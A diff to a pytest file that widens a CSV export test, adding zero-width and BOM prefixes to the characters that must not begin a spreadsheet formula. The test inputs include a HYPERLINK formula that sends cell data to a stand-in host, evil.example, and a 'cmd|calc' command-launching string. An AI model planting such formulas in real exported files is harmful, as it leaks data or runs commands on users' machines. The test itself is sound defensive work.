@@ -115,7 +115,7 @@ def test_fields_choose_and_order_the_columns(wireroom: Wireroom, published: Stor
     assert row == {"entities": {"place": ["Lagos"]}, "url": BRIDGE}
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "＝", "\t=", "\r=", "\n@"])
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "＝", "\t=", "\r=", "\n@", "\u200b=", "\ufeff="])
 def test_no_cell_of_csv_is_a_formula(wireroom: Wireroom, home: Path, start: str) -> None:
     formula = f'{start}HYPERLINK("http://evil.example?"&A1,"x")'
     names = (Entity(label=Label.PERSON, name=f"{start}cmd|calc", key="cmd", count=1, first_offset=0),)
